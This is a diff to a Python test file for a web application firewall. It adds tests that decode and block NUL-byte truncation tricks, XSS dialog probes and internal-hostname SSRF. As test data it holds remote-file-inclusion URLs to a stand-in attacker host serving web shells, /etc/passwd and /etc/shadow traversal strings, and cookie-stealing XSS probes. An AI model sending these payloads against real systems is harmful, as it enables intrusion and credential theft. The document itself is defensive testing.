@@ -7,6 +7,7 @@ import asyncio
 import base64
 import json
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -23,7 +24,7 @@ from bastion.guards.waf.checks.rfi import rfi
 from bastion.guards.waf.checks.sqli import sqli_score
 from bastion.guards.waf.checks.ssrf import internal_address, parse_ipv4
 from bastion.guards.waf.collect import collect
-from bastion.guards.waf.decode import base64_text, normalize, path_view, php_view, shell_view, sql_view
+from bastion.guards.waf.decode import base64_text, normalize, path_view, php_view, shell_view, sql_view, views
 from bastion.guards.waf.glance import clean_at_a_glance
 from bastion.guards.waf.inspected import Limits, Target
 from tests.proxy_harness import running_proxy
@@ -99,6 +100,58 @@ def test_views() -> None:
     assert shell_view("w'h'o'am'i c\\at c$@at") == "whoami cat cat"
     assert shell_view("it's fine") == "its fine"
     assert php_view("$a/*x*/(1) // c\n;") == "$a (1) ;"
+
+
+@pytest.mark.parametrize(
+    ("raw", "cut"),
+    [
+        ("http://evil.example/c99.php%00", "http://evil.example/c99.php\x00"),
+        ("/etc/passwd%00.png", "/etc/passwd\x00"),
+        ("/etc/passwd%2500.png", "/etc/passwd\x00"),  # encoded twice
+        ("../../etc/passwd\\0.jpg", "../../etc/passwd\x00"),
+        ("../../etc/passwd\\x00.jpg", "../../etc/passwd\x00"),
+        ("../../etc/passwd\\u0000.jpg", "../../etc/passwd\x00"),
+        ("/etc/passwd\x00.png", "/etc/passwd\x00"),  # a NUL a JSON parser decoded
+    ],
+)
+def test_a_value_with_a_nul_is_also_read_cut_at_it(raw: str, cut: str) -> None:
+    """What a C-string API (include, fopen) opens: the part before the first NUL, NUL kept as the
+    mark of the cut; the reading with NULs dropped stays."""
+    texts = [text for variant, text in views(raw) if variant == "text"]
+    assert (
+        texts[0]
+        == raw.replace("%2500", "")
+        .replace("%00", "")
+        .replace("\\u0000", "")
+        .replace("\\x00", "")
+        .replace("\\0", "")
+        .replace("\x00", "")
+        .lower()
+    )
+    assert cut in texts
+
+
+def test_a_value_without_a_nul_has_no_cut_reading() -> None:
+    assert all("\x00" not in text for _, text in views("C:\\0day\\notes.txt"))  # `\0d`: not an escape
+    assert views("%00") == [("text", "")]  # nothing before the NUL: no second reading
+
+
+@pytest.mark.parametrize(
+    "req",
+    [
+        request(query="page=http://evil.example/c99.php%00"),
+        request(headers=[("x-forwarded-host", "http://evil.example/c99.php%00")]),
+        request(headers=[("cookie", "tpl=http://evil.example/shell.txt%00")]),
+        request("POST", body='{"/etc/passwd%00.png": 1}', content_type="application/json"),
+        request("POST", body='{"doc": "/etc/passwd\\u0000.png"}', content_type="application/json"),
+        request(path="/download/%2Fetc%2Fpasswd%00.pdf"),
+        request("POST", body="file=%2Fetc%2Fshadow%00.jpg", content_type="application/x-www-form-urlencoded"),
+    ],
+)
+def test_nul_cut_values_are_blocked_in_every_location(guard: WAFGuard, req: Request) -> None:
+    verdict = verdict_of(guard, req)
+    assert verdict is not None
+    assert verdict.category in ("rfi", "traversal")
 
 
 def test_views_are_linear_on_comment_floods() -> None:
@@ -234,6 +287,11 @@ def test_attacks_are_blocked_with_their_category_and_location(guard: WAFGuard, r
             "POST", body=json.dumps({"sql": "SELECT id FROM users WHERE id = 42"}), content_type="application/json"
         ),
         request(query="path=docs/setup.md&url=https%3A%2F%2Fcdn.example.com%2Fa.png"),
+        request(
+            "POST",
+            body=json.dumps({"snippet": "if (confirm('Delete this item?')) { remove(id); }"}),
+            content_type="application/json",
+        ),
         request(headers=[("cookie", "session=0123456789abcdef0123456789abcdef; theme=dark")]),
     ],
 )
@@ -284,6 +342,15 @@ def test_a_referer_no_browser_writes_is_inspected(guard: WAFGuard, value: str) -
     verdict = verdict_of(guard, request(headers=[("referer", value)]))
     assert verdict is not None
     assert verdict.category == "ssrf"
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["confirm(1)", "if(confirm('x'))alert(1)", "if (confirm('sure?')) { alert(document.cookie) }", "confirm('Sure?')"],
+)
+def test_a_dialog_probe_is_still_a_sink(guard: WAFGuard, value: str) -> None:
+    """Only a question asked as the condition of application code is spared, not the call itself."""
+    assert verdict_of(guard, request(query="q=" + quote(value, safe=""))) is not None
 
 
 def test_a_weak_signal_alone_does_not_block(guard: WAFGuard) -> None:
@@ -340,6 +407,10 @@ def test_ssrf_reads_every_spelling_of_an_address() -> None:
     assert internal_address("127.0.0.1.nip.io") == "loopback"
     assert internal_address("192.0.0.192") == "cloud metadata"
     assert internal_address("example.com") is None
+    for name in ("printer.local", "git.corp", "nas.home.arpa", "router.lan", "wiki.intranet"):
+        assert internal_address(name) == "internal name"  # names only a local resolver answers
+    assert internal_address("local.example.com") is None
+    assert internal_address("corp.example") is None
 
 
 def test_rfi_check_reads_the_parameter_name() -> None:
